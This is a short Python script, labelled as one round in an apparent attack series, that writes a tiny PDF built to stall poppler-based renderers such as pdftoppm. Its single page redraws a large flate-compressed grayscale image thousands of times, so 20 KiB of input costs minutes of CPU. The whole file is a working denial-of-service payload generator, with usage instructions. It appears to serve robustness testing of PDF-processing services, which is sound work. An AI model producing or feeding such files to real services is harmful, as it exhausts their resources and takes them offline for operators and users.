# Attack round 32 (A32-6): writes a small PDF whose first page draws one flate-compressed
# WxW gray image REPS times; poppler decodes it at every draw, so pdftoppm takes minutes on 20 KiB.
# usage: python3 slow-pdf.py OUT.pdf [W] [REPS]
import zlib, sys
W = H = int(sys.argv[2]) if len(sys.argv) > 2 else 20000
reps = int(sys.argv[3]) if len(sys.argv) > 3 else 2000
c = zlib.compressobj(9)
row = b"\0" * W
data = b"".join(c.compress(row) for _ in range(H)) + c.flush()
content = b"".join(b"q 612 0 0 792 0 0 cm /Im1 Do Q\n" for _ in range(reps))
objs = [
 b"<< /Type /Catalog /Pages 2 0 R >>",
 b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
 b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << /Im1 5 0 R >> >> /Contents 4 0 R >>",
 b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
 b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode /Length %d >>\nstream\n" % (W, H, len(data)) + data + b"\nendstream",
]
out = bytearray(b"%PDF-1.4\n"); offs = []
for i, o in enumerate(objs):
    offs.append(len(out)); out += b"%d 0 obj\n" % (i + 1) + o + b"\nendobj\n"
x = len(out)
out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1) + b"".join(b"%010d 00000 n \n" % o for o in offs)
out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, x)
open(sys.argv[1], "wb").write(out)
